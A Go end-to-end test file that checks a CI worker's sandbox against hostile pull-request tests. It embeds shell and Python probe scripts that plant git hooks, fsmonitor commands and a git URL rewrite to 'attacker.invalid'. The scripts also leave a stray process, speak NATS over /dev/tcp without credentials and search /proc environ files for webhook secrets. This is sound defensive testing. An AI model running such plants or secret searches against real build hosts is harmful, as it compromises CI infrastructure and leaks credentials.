package e2e

import (
	"bytes"
	"context"
	"crypto/rand"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-github/v88/github"

	"github.com/yourci/yourci/pkg/fakegithub"
	"github.com/yourci/yourci/pkg/pause"
	"github.com/yourci/yourci/pkg/sandbox/sandboxtest"
)

// attackPy is a .yci.py that probes the sandbox of its own evaluation and
// hands what it found to its tests, which print it: %[1]s is the
// workspace, %[2]s a file in the host's /tmp.
const attackPy = `import os
from yci.run import Bash

def test_generator(build_id, pull):
    notes = []
    if os.path.exists(%[1]q + '/acme/widgets.go/source/config'):
        notes.append('sees-mirror')
    if os.path.exists(%[2]q):
        notes.append('sees-host-tmp')
    pids = [p for p in os.listdir('/proc') if p.isdigit()]
    if len(pids) > 10:
        notes.append('sees-%%d-processes' %% len(pids))
    home = os.path.expanduser('~')
    if os.path.exists(os.path.join(home, 'eval-planted')):
        notes.append('home-kept')
    with open(os.path.join(home, 'eval-planted'), 'w') as f:
        f.write('planted')
    try:
        open('eval-planted', 'w').close()
        notes.append('wrote-checkout')
    except OSError:
        pass
    said = 'BREACH ' + ','.join(notes) if notes else 'clean'
    for t, other in [('attack-a', 'attack-b'), ('attack-b', 'attack-a')]:
        yield Bash('./test.sh', env={'T': t, 'OTHER': other, 'EVAL': said}, name=t)
`

// attackSh is test.sh: it tries what an approved pull request's test
// could try, prints "BREACH: ..." for every attempt that gets through, and
// leaves plants that would run as the worker if they escaped. %[1]s is the
// workspace, %[2]s a file in the host's /tmp, %[3]s a host directory the
// plants would write to, %[4]s the directory of the worker's binary, %[5]s
// the name of the sleeper it leaves behind.
const attackSh = `#!/bin/bash
set -u
breach() { echo "BREACH: $*"; }
WS=%[1]s
R=$WS/acme/widgets.go
B=$R/pulls/$YCI_PULL/$YCI_BUILD
echo "eval said: $EVAL"
# What an earlier attempt planted is gone.
test -e ~/planted && breach "HOME kept an earlier plant"
test -e /tmp/planted-$T && breach "/tmp kept an earlier plant"
git config --global --get core.fsmonitor && breach "global git config kept"
# The mirror, other builds and logs, the worker's files and home.
for p in "$R/source/config" "$R/source/hooks" "$R/source/refs" "$WS/.yci" "$WS/.yci/nats" %[2]s /root/.gitconfig \
         "$B/$OTHER/out.txt" "$B/$OTHER/source" "$B/source" ../out.txt; do
  test -e "$p" && breach "sees $p"
done
# Writes the host checks for: a hook in the mirror, another test's log, a
# link in place of its own log. (Paths may appear writable: the hidden
# workspace can be an empty tmpfs that vanishes with the test.)
{ mkdir -p "$R/source/hooks" && echo 'touch %[3]s/hook-ran' > "$R/source/hooks/reference-transaction"; } 2>/dev/null
{ echo planted >> "$B/$OTHER/out.txt"; } 2>/dev/null
{ ln -f test.sh ../out.txt; ln -f test.sh "$B/$T/out.txt"; } 2>/dev/null
ls -l /proc/[0-9]*/fd/ 2>/dev/null | grep -q 'out\.txt' && breach "an out.txt is open"
n=$(ls /proc | grep -c '^[0-9]*$'); [ "$n" -lt 12 ] || breach "sees $n processes"
grep -l %[4]s/worke[r] /proc/[0-9]*/cmdline 2>/dev/null | grep -q . && breach "sees the worker"
# Plants that would run as the worker, or redirect its fetches, if they escaped.
git config --global core.fsmonitor "touch %[3]s/fsmonitor-ran"
git config --global core.hooksPath /tmp/hooks
mkdir -p ~/.config/git; printf '[url "http://attacker.invalid/"]\n\tinsteadOf = http://\n' > ~/.config/git/config
echo planted > ~/planted; echo planted > /tmp/planted-$T
# No network but loopback (the worker runs with -test-network none).
tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | grep -vx lo | grep -q . && breach "has a network"
if [ -e "$GOMODCACHE/marker" ]; then echo "cache: hit $(cat "$GOMODCACHE/marker")"; else echo "cache: miss"; fi
# Both tests of the build run at once, each with its own /tmp.
touch "$XDG_CACHE_HOME/ready-$YCI_BUILD-$T"
for i in $(seq 300); do [ -e "$XDG_CACHE_HOME/ready-$YCI_BUILD-$OTHER" ] && break; sleep 0.1; done
[ -e "$XDG_CACHE_HOME/ready-$YCI_BUILD-$OTHER" ] || echo "never saw $OTHER start"
test -e /tmp/planted-$OTHER && breach "shares /tmp with $OTHER"
# A sleeper left behind.
(exec -a %[5]s sleep 1000) &
# The repository's cache keeps what earlier builds wrote (read before
# either test of this build writes).
mkdir -p "$GOMODCACHE"; echo "$YCI_REPO build $YCI_BUILD" > "$GOMODCACHE/marker"
if [ "$T" = attack-a ] && [ "$YCI_REPO" = acme/widgets.go ]; then
  mkdir /tmp/m && cd /tmp/m && printf 'module m\n\ngo 1.21\n' > go.mod && printf 'package main\n\nfunc main() {}\n' > main.go
  echo "go compiles: $($(command -v go || echo /usr/local/go/bin/go) build -x -o /tmp/m/m . 2>&1 | grep -c '/compile ')"
fi
echo "checks done"
`

// TestSandboxHoldsAgainstAHostileTest runs the attack scripts above with
// the real worker in its default sandbox (-test-network none): in a first
// build, in a second build of the same pull request, and in a build of
// another repository, checking from the host what they could not do.
func TestSandboxHoldsAgainstAHostileTest(t *testing.T) {
	t.Parallel()
	if !sandboxtest.Available(t) {
		t.Skip("bubblewrap not usable; set YCI_REQUIRE_BWRAP=1 to make this a failure")
	}
	s := newStack(t, stackOptions{sandbox: true})
	w := s.startWorker("worker", "YCI_JOBS=2", "YCI_TEST_NETWORK=none")
	plants := t.TempDir()
	hostTmp, err := os.CreateTemp("", "yci-host-secret-")
	if err != nil {
		t.Fatal(err)
	}
	hostTmp.Close()
	t.Cleanup(func() { os.Remove(hostTmp.Name()) })
	home, _ := os.UserHomeDir()
	gitconfig, _ := os.ReadFile(filepath.Join(home, ".gitconfig"))
	sleeper := "yci-left-" + strings.ToLower(rand.Text()[:10])
	files := map[string]string{
		".yci.py": fmt.Sprintf(attackPy, w.Workspace, hostTmp.Name()),
		"test.sh": fmt.Sprintf(attackSh, w.Workspace, hostTmp.Name(), plants, binDir, sleeper),
	}
	names := []string{"attack-a", "attack-b"}

	n, sha := s.openPull(files)
	logs := s.sandboxLogs(t, repoName, n, 1, sha, names)
	checkCache(t, logs, "cache: miss")
	sha2 := s.push(n)
	logs2 := s.sandboxLogs(t, repoName, n, 2, sha2, names)
	checkCache(t, logs2, "cache: hit acme/"+repoName+" build 1")
	if c1, c2 := goCompiles(t, logs["attack-a"]), goCompiles(t, logs2["attack-a"]); c1 == 0 || c2 != 0 {
		t.Errorf("go compiled %d packages in build 1 and %d in build 2; want some, then none (GOCACHE kept)", c1, c2)
	}

	const other = "gadgets"
	if _, err := s.gh.CreateRepo(owner, other); err != nil {
		t.Fatal(err)
	}
	if _, err := s.gh.Commit(owner, other, "main", map[string]string{"README.md": "gadgets\n"}, "Initial commit"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.gh.Commit(owner, other, "feature", files, "Add tests"); err != nil {
		t.Fatal(err)
	}
	pr, err := s.gh.OpenPull(owner, other, fakegithub.PullSpec{Head: "feature", Title: "Add tests"})
	if err != nil {
		t.Fatal(err)
	}
	checkCache(t, s.sandboxLogs(t, other, pr.GetNumber(), 1, pr.GetHead().GetSHA(), names), "cache: miss")

	for _, f := range []string{"hook-ran", "fsmonitor-ran"} {
		if _, err := os.Stat(filepath.Join(plants, f)); err == nil {
			t.Errorf("a plant ran outside the sandbox: %s", f)
		}
	}
	if _, err := os.Stat(filepath.Join(w.Workspace, owner, repoName, "source", "hooks", "reference-transaction")); err == nil {
		t.Error("a test wrote a hook into the mirror")
	}
	if now, _ := os.ReadFile(filepath.Join(home, ".gitconfig")); !bytes.Equal(now, gitconfig) {
		t.Errorf("the worker's ~/.gitconfig changed:\n%s", now)
	}
	waitNoProcess(t, sleeper)
}

// sandboxLogs waits for build b of pull n of repo to finish, checks that
// every test passed having run its checks and found no breach, and returns
// the logs by test name.
func (s *stack) sandboxLogs(t *testing.T, repo string, n, b int, sha string, names []string) map[string]string {
	t.Helper()
	ctx, cancel := context.WithTimeout(s.ctx, waitLimit)
	defer cancel()
	var final map[string]github.RepoStatus
	err := s.gh.WaitStatuses(ctx, owner, repo, sha, func(m map[string]github.RepoStatus) bool {
		final = m
		for _, name := range names {
			if st, ok := m["yci/"+name]; !ok || st.GetState() == "pending" {
				return false
			}
		}
		return true
	})
	if err != nil {
		t.Fatalf("waiting for %s build %d: %v", repo, b, err)
	}
	logs := map[string]string{}
	for _, name := range names {
		data, err := os.ReadFile(s.workspacePath("worker", owner, repo, "pulls", strconv.Itoa(n), strconv.Itoa(b), name, "out.txt"))
		if err != nil {
			t.Fatal(err)
		}
		log := string(data)
		logs[name] = log
		if st := final["yci/"+name]; st.GetState() != "success" {
			t.Errorf("%s build %d %s: %s %s\n%s", repo, b, name, st.GetState(), st.GetDescription(), log)
		}
		for _, want := range []string{"eval said: clean\n", "checks done\n"} {
			if !strings.Contains(log, want) {
				t.Errorf("%s build %d %s: log lacks %q:\n%s", repo, b, name, want, log)
			}
		}
		for _, bad := range []string{"BREACH", "planted", "#!/bin/bash", "never saw"} {
			if strings.Contains(log, bad) {
				t.Errorf("%s build %d %s: log has %q:\n%s", repo, b, name, bad, log)
			}
		}
	}
	return logs
}

func checkCache(t *testing.T, logs map[string]string, want string) {
	t.Helper()
	for name, log := range logs {
		if !strings.Contains(log, want+"\n") {
			t.Errorf("%s: log lacks %q:\n%s", name, want, log)
		}
	}
}

var compiles = regexp.MustCompile(`go compiles: (\d+)`)

func goCompiles(t *testing.T, log string) int {
	t.Helper()
	m := compiles.FindStringSubmatch(log)
	if m == nil {
		t.Fatalf("no go build count in log:\n%s", log)
	}
	n, _ := strconv.Atoi(m[1])
	return n
}

// waitNoProcess waits until no process has name in its command line.
func waitNoProcess(t *testing.T, name string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	found := 0
	none := func() bool {
		found = 0
		matches, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, m := range matches {
			if b, err := os.ReadFile(m); err == nil && bytes.Contains(b, []byte(name)) {
				found++
			}
		}
		return found == 0
	}
	if pause.Poll(ctx, 10*time.Millisecond, none) != nil {
		t.Fatalf("%d processes named %s outlived their test", found, name)
	}
}

// queueSh is test.sh for TestSandboxedTestCannotReachTheQueue: with the
// network shared, it speaks NATS to the embedded JetStream as a client
// without credentials would, subscribing to everything and publishing,
// and looks for the receiver's secrets in /proc and the credentials on
// disk. %[1]d is the JetStream's port, %[2]d the receiver's host pid,
// %[3]s the webhook secret, %[4]s the worker's home.
const queueSh = `#!/bin/bash
set -u
# The server closes the connection on the refused CONNECT, maybe while the
# rest is still being written: a write then fails, it must not kill us.
trap '' PIPE
breach() { echo "BREACH: $*"; }
if exec 3<>/dev/tcp/127.0.0.1/%[1]d; then
  IFS= read -r -t 10 info <&3 || true
  case "$info" in INFO*) echo "queue: server answered";; *) echo "queue: no INFO line: $info";; esac
  printf 'CONNECT {"verbose":false,"pedantic":false,"protocol":1}\r\nSUB > 1\r\nPUB yci.forged 6\r\nforged\r\nPING\r\n' >&3
  reply=""
  while IFS= read -r -t 10 line <&3; do
    reply="$reply ${line%%$'\r'}"
    case "$line" in PONG*|-ERR*) break;; esac
  done
  case "$reply" in
    *PONG*) breach "the queue took a client without credentials:$reply";;
    *"Authorization Violation"*) echo "queue: refused";;
    *) echo "queue: no answer:$reply";;
  esac
  exec 3<&-
else
  echo "queue: unreachable"
fi
# The receiver's environment and every process's, by pid and by content.
{ cat /proc/%[2]d/environ; } >/dev/null 2>&1 && breach "reads /proc/%[2]d/environ"
for f in /proc/[0-9]*/environ; do
  grep -qa -e %[3]q -e NATS_URL -e GITHUB_WEBHOOK_SECRET "$f" 2>/dev/null && breach "$f holds a secret"
done
n=$(ls /proc | grep -c '^[0-9]*$'); [ "$n" -lt 12 ] || breach "sees $n processes"
for p in %[4]s/.config/yourci /root/.config/yourci %[4]s/.config/yourci/nats-%[1]d.credentials; do
  test -e "$p" && breach "sees $p"
done
echo "checks done"
`

// TestSandboxedTestCannotReachTheQueue runs a test in the worker's default
// sandbox with the network shared (the default), on the embedded JetStream
// (a box configured with nothing) and on Debian's nats-server with a
// password (as deploy/nats/single.conf sets up): the test reaches the
// queue's port but is refused without credentials, so it can neither
// publish nor read; it cannot read the receiver's /proc/<pid>/environ (its
// own PID namespace), nor any process's environment holding the webhook
// secret or NATS_URL with its password. Before the embedded JetStream
// required credentials, this failed with "the queue took a client without
// credentials".
func TestSandboxedTestCannotReachTheQueue(t *testing.T) {
	t.Parallel()
	if !sandboxtest.Available(t) {
		t.Skip("bubblewrap not usable; set YCI_REQUIRE_BWRAP=1 to make this a failure")
	}
	t.Run("embedded", func(t *testing.T) {
		t.Parallel()
		testQueueOutOfReach(t, embedded)
	})
	t.Run("nats-server_with_password", func(t *testing.T) {
		t.Parallel()
		testQueueOutOfReach(t, externalWithPassword)
	})
}

// testQueueOutOfReach runs the queue probe in the sandbox of a worker whose
// JetStream is of the given mode.
func testQueueOutOfReach(t *testing.T, mode natsMode) {
	s := newStack(t, stackOptions{sandbox: true, nats: mode})
	w := s.startWorker("worker")
	// The worker goes before the receiver, whose JetStream it still needs
	// to report the build.
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		if err := w.Stop(ctx); err != nil {
			t.Errorf("stopping the worker: %v", err)
		}
	})
	port, marker := s.cfg.NATSPort, "YCI_NATS_PORT="+strconv.Itoa(s.cfg.NATSPort)
	if mode == externalWithPassword {
		port, marker = s.natsPort, "NATS_URL="+s.cfg.NATSURL
	}
	receiver := findProcess(t, "receiver", marker)
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		".yci.py": "from yci.run import Bash\n\ndef test_generator(build_id, pull):\n    yield Bash('./test.sh', name='queue')\n",
		"test.sh": fmt.Sprintf(queueSh, port, receiver, secret, home),
	}
	n, sha := s.openPull(files)
	ctx, cancel := context.WithTimeout(s.ctx, waitLimit)
	defer cancel()
	var final github.RepoStatus
	err = s.gh.WaitStatuses(ctx, owner, repoName, sha, func(m map[string]github.RepoStatus) bool {
		final = m["yci/queue"]
		return final.GetState() != "" && final.GetState() != "pending"
	})
	if err != nil {
		t.Fatalf("waiting for the test: %v", err)
	}
	data, err := os.ReadFile(s.workspacePath("worker", owner, repoName, "pulls", strconv.Itoa(n), "1", "queue", "out.txt"))
	if err != nil {
		t.Fatal(err)
	}
	log := string(data)
	for _, want := range []string{"queue: server answered\n", "queue: refused\n", "checks done\n"} {
		if !strings.Contains(log, want) {
			t.Errorf("log lacks %q:\n%s", want, log)
		}
	}
	if strings.Contains(log, "BREACH") || final.GetState() != "success" {
		t.Errorf("yci/queue is %s (%s); log:\n%s", final.GetState(), final.GetDescription(), log)
	}
}

// findProcess returns the host pid of the one process whose command line
// ends in /name and whose environment holds marker.
func findProcess(t *testing.T, name, marker string) int {
	t.Helper()
	matches, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	var found []int
	for _, m := range matches {
		cmdline, err := os.ReadFile(m)
		if err != nil {
			continue
		}
		argv0, _, _ := bytes.Cut(cmdline, []byte{0})
		if filepath.Base(string(argv0)) != name {
			continue
		}
		environ, err := os.ReadFile(filepath.Join(filepath.Dir(m), "environ"))
		if err != nil || !bytes.Contains(environ, []byte(marker)) {
			continue
		}
		pid, err := strconv.Atoi(filepath.Base(filepath.Dir(m)))
		if err == nil {
			found = append(found, pid)
		}
	}
	if len(found) != 1 {
		t.Fatalf("found %d processes named %s with %s, want 1: %v", len(found), name, marker, found)
	}
	return found[0]
}
